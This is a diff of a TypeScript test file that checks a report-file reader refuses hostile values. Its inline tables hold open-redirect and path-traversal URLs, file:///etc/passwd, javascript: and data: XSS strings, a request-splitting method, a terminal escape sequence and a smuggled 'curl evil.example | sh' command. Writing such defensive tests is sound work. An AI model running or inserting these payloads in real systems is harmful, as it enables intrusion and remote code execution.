@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, readFileSync, truncateSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
@@ -85,19 +85,84 @@ describe('a report file', () => {
   })
 })
 
-// Each file of the folder is a report that a stranger could send. The expected error contains its `_why`.
+const ON_NO_PAGE = [
+  'https://evil.example/login',
+  '//evil.example/login',
+  '/.//evil.example/login',
+  '/\\evil.example/login',
+  '/\t/evil.example/login',
+  'file:///etc/passwd',
+  'javascript:alert(document.cookie)',
+  'data:text/html,<script>alert(1)</script>',
+  '/__sandbox/members',
+  '/user/../__sandbox/members',
+  '/user/..%2f..%2f__sandbox/reset',
+  '/api/wallet/refresh/slot',
+  '/API/evil',
+  '/Api%3Fx=1',
+  '/%61pi/evil',
+  '/%2561pi/evil',
+]
+
+/** What a stranger's report has in the place of one value of a good one, and how it is refused. */
+const HOSTILE: [name: string, good: unknown, hostile: unknown, why: string][] = [
+  [
+    'url',
+    'https://wallet.example/api/login',
+    'https://wallet.example/__sandbox/reset',
+    'is no address of a call',
+  ],
+  ['url', 'https://wallet.example/api/login', 'file:///api/login', 'is no address of a call'],
+  ['method', 'POST', 'GET /x HTTP/1.1\r\nX:', 'is no method'],
+  ['status', 401, 1_000_000_000, 'is not from 0 to 999'],
+  ['time', 12, -5, 'is not from 0 to'],
+  ['locale', 'th', '../en', 'Invalid'],
+  ['reference', 'ABC234', '\u001b]8;;https://evil.example\u0007ABC234', 'is no reference'],
+  ['reference', 'ABC234', '../../../home', 'is no reference'],
+  ['reference', 'ABC234', 'ABC234\nTrace     curl evil.example | sh', 'is no reference'],
+  ['width', 390, 1_000_000_000, 'is not from 1 to'],
+  ['type', 'press', 'evaluate', 'Invalid'],
+  ['at', 1763632800500, 1e300, 'is not from'],
+  ['timeZoneOffset', -420, 1_000_000_000, 'is not from'],
+  ...ON_NO_PAGE.map(
+    (to) => ['to', '/login', to, "is no page of the app's own"] satisfies (typeof HOSTILE)[0],
+  ),
+]
+
 describe('a hostile report', () => {
-  const folder = join(SAMPLES, 'hostile')
-  const files = readdirSync(folder)
-
-  it('exists for every kind of attack', () => expect(files.length).toBeGreaterThan(20))
-
-  it.each(files)('%s is refused with its place in the file', (file) => {
-    const { _why } = JSON.parse(readFileSync(join(folder, file), 'utf8'))
-    const refusal = refusalOf(() => readRecorded(join(folder, file)))
-    expect(refusal).toContain(file)
-    expect(refusal).toContain(_why)
+  const isRefused = (content: string, why: string) => {
+    const refusal = refusalOf(reading(content, 'hostile.har'))
+    expect(refusal).toContain('hostile.har')
+    expect(refusal).toContain(why)
     expect(refusal).toSatisfy(isOneSentence)
     expect(refusal).not.toContain('evil')
+  }
+  /** A good report with further steps. */
+  const withSteps = (...steps: object[]) => {
+    const report = JSON.parse(GOOD)
+    report.log._steps.push(...steps)
+    return JSON.stringify(report)
+  }
+
+  it.each(HOSTILE)(
+    'whose %s is not %j but %j is refused with its place in the file',
+    (name, good, hostile, why) => {
+      const field = (value: unknown) => `${JSON.stringify(name)}: ${JSON.stringify(value)}`
+      expect(GOOD).toContain(field(good))
+      isRefused(
+        GOOD.replace(field(good), () => field(hostile)),
+        why,
+      )
+    },
+  )
+
+  it('that leaves the app in a later step is refused', () => {
+    const step = { at: 1763632800600, type: 'route', to: 'https://evil.example/' }
+    isRefused(withSteps(step), "is no page of the app's own")
+  })
+
+  it('with steps without end is refused', () => {
+    const steps = Array.from({ length: 600 }, (_, index) => ({ at: 1763632800600 + index, type: 'online' }))
+    isRefused(withSteps(...steps), 'are too many')
   })
 })
